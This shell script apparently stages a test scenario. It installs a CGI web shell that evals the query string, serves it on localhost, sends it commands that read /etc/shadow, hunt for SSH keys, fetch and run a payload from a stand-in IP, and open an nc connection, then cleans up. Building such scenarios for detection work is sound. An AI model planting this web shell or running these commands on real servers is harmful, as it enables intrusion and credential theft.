# A web server runs what visitors say. The visitors are elsewhere: what they do is not recorded.
#--- setup
r=/srv/ws$v; mkdir -p $r/cgi-bin
printf '#!/bin/sh\necho "Content-Type: text/plain"; echo\neval "$(echo "$QUERY_STRING" | sed "s/+/ /g; s/%%3B/;/g; s/%%2F/\\//g")" 2>&1\n' >$r/cgi-bin/x; chmod 755 $r/cgi-bin/x; chmod 755 $r $r/cgi-bin
#--- attack
p=$((7000 + v)); r=/srv/ws$v
if have busybox; then busybox httpd -f -p 127.0.0.1:$p -h $r & s=$!
elif have python3; then (cd $r && exec python3 -m http.server --cgi $p --bind 127.0.0.1) & s=$!; fi >/dev/null 2>&1
sleep 4; kill $s
#--- outside
p=$((7000 + v)); i=0
while [ $i -lt 60 ] && ! curl -s -m 1 -o /dev/null http://127.0.0.1:$p/; do sleep 0.2; i=$((i + 1)); done
get() { curl -s -m 3 "http://127.0.0.1:$p/cgi-bin/x?$1"; }
case $((v % 4)) in
0) for q in id whoami uname+-a cat+%2Fetc%2Fpasswd ps; do get "$q"; done ;;
1) get "wget+-q+-O+%2Ftmp%2F.w+http:%2F%2F198.51.100.66%2Fpayload%3Bcurl+-s+-o+%2Ftmp%2F.w+http:%2F%2F198.51.100.66%2Fpayload%3Bchmod+755+%2Ftmp%2F.w%3B%2Ftmp%2F.w+0.1"; get "ls+-la+%2F" ;;
2) get "cat+%2Fetc%2Fshadow"; get "find+%2F+-xdev+-name+id_rsa"; get "echo+x+%2Ftmp"; get "tar+cf+-+%2Fetc%2Fpasswd" ;;
3) get "nc+-w+1+198.51.100.66+4444"; get "sh+-c+id%3Bid"; get "crontab+-l"; get "cp+%2Fbin%2Fsh+%2Ftmp%2F.b%3B%2Ftmp%2F.b+-c+id" ;;
esac >/dev/null 2>&1
#--- cleanup
rm -rf /srv/ws$v /tmp/.b /tmp/.w
